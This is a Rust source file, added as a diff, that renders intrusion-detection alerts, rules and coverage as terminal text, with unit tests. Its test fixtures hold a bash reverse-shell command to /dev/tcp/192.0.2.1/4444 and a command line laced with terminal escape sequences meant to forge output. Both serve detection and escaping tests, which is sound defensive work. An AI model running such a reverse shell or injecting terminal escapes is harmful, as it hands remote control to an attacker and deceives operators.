@@ -1,0 +1,277 @@
+//! Alerts, rules and coverage as text.
+
+use std::collections::BTreeMap;
+
+use jiff::tz::TimeZone;
+
+use super::model::{Alert, Coverage, Rule};
+use crate::text::{
+    escape::{escape, pad, shorten},
+    style::Style,
+    table::{Table, pairs},
+    time::{clock, local},
+};
+
+/// Longest command line in a table, in columns.
+const COMMAND: usize = 60;
+
+/// One line for an alert as it is raised.
+pub fn line(alert: &Alert, style: Style, zone: &TimeZone) -> String {
+    let level = escape(&alert.level);
+    let mut text = format!(
+        "{}  {}  {}",
+        style.dim(&clock(alert.time, zone)),
+        style.severity(&alert.level, &pad(&level, 13)),
+        style.bold(&escape(&alert.title))
+    );
+    if alert.count > 1 {
+        text.push_str(&format!(" ×{}", alert.count));
+    }
+    text.push_str(&format!(
+        "  {}[{}] by {}",
+        escape(program(&alert.executable)),
+        alert.pid,
+        escape(&alert.user)
+    ));
+    if !alert.unit.is_empty() {
+        text.push_str(&format!(" in {}", escape(&alert.unit)));
+    }
+    text.push_str(&format!(": {}\n", escape(alert.command())));
+    text
+}
+
+/// The last part of a path.
+fn program(executable: &str) -> &str {
+    executable.rsplit('/').next().unwrap_or(executable)
+}
+
+/// The alerts that stand.
+pub fn alerts(alerts: &[Alert], style: Style, zone: &TimeZone) -> String {
+    if alerts.is_empty() {
+        return "no alerts\n".to_owned();
+    }
+    let mut table = Table::new(&[
+        "ID", "TIME", "LEVEL", "COUNT", "PID", "USER", "UNIT", "TITLE", "COMMAND",
+    ])
+    .right(&[3, 4]);
+    for alert in alerts {
+        table.row([
+            escape(&alert.id),
+            local(alert.time, zone),
+            escape(&alert.level),
+            alert.count.to_string(),
+            alert.pid.to_string(),
+            escape(&alert.user),
+            escape(&alert.unit),
+            shorten(&escape(&alert.title), 48),
+            shorten(&escape(alert.command()), COMMAND),
+        ]);
+    }
+    table.render(|column, cell, aligned| match column {
+        2 => style.severity(cell, aligned),
+        _ => aligned.to_owned(),
+    })
+}
+
+/// Everything about one alert.
+pub fn details(alert: &Alert, style: Style, zone: &TimeZone) -> String {
+    let ancestors: Vec<String> = alert
+        .ancestors
+        .iter()
+        .map(|(pid, comm, executable)| {
+            format!("{}[{pid}] {}", escape(comm), escape(executable))
+                .trim_end()
+                .to_owned()
+        })
+        .collect();
+    let tags: Vec<String> = alert.tags.iter().map(|tag| escape(tag)).collect();
+    let mut text = pairs(&[
+        ("Id", escape(&alert.id)),
+        ("Title", style.bold(&escape(&alert.title))),
+        ("Level", style.severity(&alert.level, &escape(&alert.level))),
+        ("Rule", escape(&alert.rule_id)),
+        ("Time", local(alert.time, zone)),
+        ("Count", alert.count.to_string()),
+        ("Class", escape(&alert.class)),
+        (
+            "Process",
+            format!("{} {}", alert.pid, escape(&alert.executable)),
+        ),
+        ("Command", escape(&alert.command_line)),
+        ("User", format!("{} ({})", escape(&alert.user), alert.uid)),
+        ("Unit", escape(&alert.unit)),
+        ("Ancestors", ancestors.join(" < ")),
+        ("Tags", tags.join(", ")),
+        ("Why", escape(&alert.explanation)),
+    ]);
+    if !alert.fields.is_empty() {
+        text.push_str("Fields:\n");
+        for (name, value) in &alert.fields {
+            text.push_str(&format!("  {}: {}\n", escape(name), escape(value)));
+        }
+    }
+    text
+}
+
+/// The rules, one line each.
+pub fn rules(rules: &[Rule], style: Style) -> String {
+    if rules.is_empty() {
+        return "no rules\n".to_owned();
+    }
+    let mut table = Table::new(&["FATE", "LEVEL", "TITLE", "ID", "REASON"]);
+    for rule in rules {
+        table.row([
+            escape(&rule.fate),
+            escape(&rule.level),
+            shorten(&escape(&rule.title), 60),
+            escape(&rule.id),
+            escape(&rule.reason),
+        ]);
+    }
+    table.render(|column, cell, aligned| match column {
+        0 => style.severity(cell, aligned),
+        1 => style.severity(cell, aligned),
+        _ => aligned.to_owned(),
+    })
+}
+
+/// What a reload gave.
+pub fn reloaded(loaded: u32, not_applicable: u32, failed: u32, style: Style) -> String {
+    let failed = if failed > 0 {
+        style.bad(&format!(
+            "{failed} failed (see: quantumctl security rules --fate failed)"
+        ))
+    } else {
+        "0 failed".to_owned()
+    };
+    format!("{loaded} rules loaded, {not_applicable} not applicable here, {failed}\n")
+}
+
+/// The classes of event, one line each.
+pub fn coverage(coverage: &[Coverage], style: Style) -> String {
+    let mut table = Table::new(&["CLASS", "STATE", "HOOK", "REASON"]);
+    for class in coverage {
+        table.row([
+            escape(&class.class),
+            escape(&class.state),
+            escape(&class.hook),
+            escape(&class.reason),
+        ]);
+    }
+    table.render(|column, cell, aligned| match column {
+        1 => style.severity(cell, aligned),
+        _ => aligned.to_owned(),
+    })
+}
+
+/// Counters by name.
+pub fn statistics(counters: &BTreeMap<String, u64>) -> String {
+    let mut table = Table::new(&["COUNTER", "VALUE"]).right(&[1]);
+    for (name, value) in counters {
+        table.row([escape(name), value.to_string()]);
+    }
+    table.plain()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::security::model::tests::alert;
+
+    #[test]
+    fn an_alert_is_one_line() {
+        assert_eq!(
+            line(&alert(), Style::PLAIN, &TimeZone::UTC),
+            "12:00:00  high           Interactive shell from a service ×3  \
+             bash[4242] by www-data in nginx.service: bash -i >& /dev/tcp/192.0.2.1/4444\n"
+        );
+    }
+
+    #[test]
+    fn a_hostile_command_line_stays_on_its_line() {
+        let mut hostile = alert();
+        hostile.command_line = "x\n\x1b[1A\x1b[2Kfake line".into();
+        hostile.executable = "/tmp/\x1b]0;t\x07".into();
+        let text = line(&hostile, Style::PLAIN, &TimeZone::UTC);
+        assert_eq!(text.matches('\n').count(), 1);
+        assert!(!text.contains('\x1b'));
+        for text in [
+            alerts(std::slice::from_ref(&hostile), Style::PLAIN, &TimeZone::UTC),
+            details(&hostile, Style::PLAIN, &TimeZone::UTC),
+        ] {
+            assert!(!text.contains('\x1b'), "{text:?}");
+        }
+    }
+
+    #[test]
+    fn a_table_of_alerts() {
+        assert_eq!(
+            alerts(&[alert()], Style::PLAIN, &TimeZone::UTC),
+            "\
+ID  TIME                 LEVEL  COUNT   PID  USER      UNIT           TITLE                             COMMAND
+17  2025-11-21 12:00:00  high       3  4242  www-data  nginx.service  Interactive shell from a service  bash -i >& /dev/tcp/192.0.2.1/4444
+"
+        );
+        assert_eq!(alerts(&[], Style::PLAIN, &TimeZone::UTC), "no alerts\n");
+    }
+
+    #[test]
+    fn details_tell_all() {
+        assert_eq!(
+            details(&alert(), Style::PLAIN, &TimeZone::UTC),
+            "\
+Id:         17
+Title:      Interactive shell from a service
+Level:      high
+Rule:       r-1
+Time:       2025-11-21 12:00:00
+Count:      3
+Class:      process_creation
+Process:    4242 /usr/bin/bash
+Command:    bash -i >& /dev/tcp/192.0.2.1/4444
+User:       www-data (33)
+Unit:       nginx.service
+Ancestors:  nginx[100] /usr/sbin/nginx
+Tags:       attack.execution, attack.t1059.004
+Why:        selection: CommandLine contains /dev/tcp/
+Fields:
+  Image: /usr/bin/bash
+"
+        );
+    }
+
+    #[test]
+    fn rules_and_coverage() {
+        let rule: Rule = (
+            "id".to_owned(),
+            "Title".to_owned(),
+            "low".to_owned(),
+            "failed".to_owned(),
+            "a.yml:3: unknown modifier".to_owned(),
+        )
+            .into();
+        assert_eq!(
+            rules(&[rule], Style::PLAIN),
+            "FATE    LEVEL  TITLE  ID  REASON\nfailed  low    Title  id  a.yml:3: unknown modifier\n"
+        );
+        let class: Coverage = (
+            "exec".to_owned(),
+            "tp_btf/sched_process_exec".to_owned(),
+            "attached".to_owned(),
+            String::new(),
+        )
+            .into();
+        assert_eq!(
+            coverage(&[class], Style::PLAIN),
+            "CLASS  STATE     HOOK                       REASON\nexec   attached  tp_btf/sched_process_exec\n"
+        );
+        assert_eq!(
+            reloaded(108, 102, 0, Style::PLAIN),
+            "108 rules loaded, 102 not applicable here, 0 failed\n"
+        );
+        assert_eq!(
+            statistics(&BTreeMap::from([("events".into(), 12), ("lost".into(), 0)])),
+            "COUNTER  VALUE\nevents      12\nlost         0\n"
+        );
+    }
+}
